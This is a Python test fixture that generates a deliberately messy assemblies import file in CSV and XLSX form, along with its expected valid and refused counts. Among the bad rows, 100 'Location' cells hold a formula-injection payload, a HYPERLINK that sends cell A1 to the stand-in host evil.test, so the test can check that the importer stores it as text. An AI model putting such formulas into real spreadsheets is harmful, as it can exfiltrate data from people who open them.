"""Import files as companies bring them: a messy 5,000-row assemblies export (repeats, bad phones,
unknown assembly types, impossible dates, Latin-1 names, formulas in cells), written as CSV in
Windows-1252 and as an XLSX twin, with the counts its construction implies."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass

HEADERS = [
    "Customer",
    "E-mail",
    "Phone",
    "Service Address",
    "City",
    "State",
    "Zip",
    "Type",
    "Serial #",
    "Manufacturer",
    "Size",
    "Location",
    "Install Date",
    "Meter Reader Notes",
]

FIRST_NAMES = ["Zoë", "José", "Françoise", "Björn", "Renée", "Ana", "Łukasz", "Chloé"]
# Characters Windows-1252 has (Ł is not in it, so it stays out of the Latin-1 file).
LATIN1_FIRST_NAMES = [n for n in FIRST_NAMES if n != "Łukasz"]
KINDS = ["RP", "DCVA", "PVB", "rpz", "Double Check", "SVB"]


@dataclass(frozen=True)
class Expected:
    total: int
    valid: int
    refused: int
    customers: int
    sites: int
    assemblies: int


def messy_assemblies() -> tuple[list[list[str]], Expected]:
    """The rows (header first) and what a first import of them must find."""
    rows: list[list[str]] = [HEADERS]
    valid: list[list[str]] = []
    for c in range(1000):
        name = f"{LATIN1_FIRST_NAMES[c % len(LATIN1_FIRST_NAMES)]} Müller {c:04d}"
        # Mixed case: the email is normalised before it is compared.
        email = f"Owner{c:04d}@Example.COM" if c % 2 else f"owner{c:04d}@example.com"
        phone = f"+1 (312) 555-{c:04d}"
        for s in range(2):
            street = f"{100 + s} North Main Street"
            for a in range(2):
                # The second assembly of a site writes its address in capitals with double
                # spaces: the same site.
                address = street if a == 0 else street.upper().replace(" ", "  ")
                valid.append(
                    [
                        name,
                        email,
                        phone,
                        address,
                        "Chicago",
                        "IL",
                        f"60{c % 1000:03d}",
                        KINDS[(c + s + a) % len(KINDS)],
                        f"SN-{c:04d}-{s}{a}",
                        "Watts",
                        '3/4"',
                        "Basement",
                        f"{1 + c % 12}/{1 + c % 28}/20{10 + c % 10}",
                        "",
                    ]
                )
    rows.extend(valid)
    # 100 more assemblies at existing sites, with a formula where the location goes: valid, and
    # stored as the text it is.
    for c in range(100):
        row = list(valid[c * 4])
        row[8] = f"FX-{c:04d}"
        row[11] = '=HYPERLINK("http://evil.test/?c="&A1,"Click")'
        rows.append(row)
    # 400 exact repeats of earlier rows: refused, each naming the row it repeats.
    rows.extend(list(valid[i * 10]) for i in range(400))
    # 300 new customers with a phone that is not in international form: refused.
    for c in range(300):
        rows.append(
            [
                f"Bad Phone {c:04d}",
                "",
                "555-1234",
                "1 Elm St",
                "Chicago",
                "IL",
                "60601",
                "RP",
                f"BP-{c:04d}",
                "",
                "",
                "",
                "",
                "",
            ]
        )
    # 100 assemblies of an unknown type, and 100 with an impossible install date: refused.
    for c in range(100):
        row = list(valid[c * 4])
        row[7], row[8] = "Flux capacitor", f"UK-{c:04d}"
        rows.append(row)
    for c in range(100):
        row = list(valid[c * 4])
        row[8], row[12] = f"BD-{c:04d}", "13/45/2020"
        rows.append(row)
    return rows, Expected(
        total=5000, valid=4100, refused=900, customers=1000, sites=2000, assemblies=4100
    )


def as_csv(rows: list[list[str]], encoding: str = "cp1252") -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode(encoding)


def as_xlsx(rows: list[list[str]]) -> bytes:
    from openpyxl import Workbook

    book = Workbook(write_only=True)
    sheet = book.create_sheet("Assemblies")
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
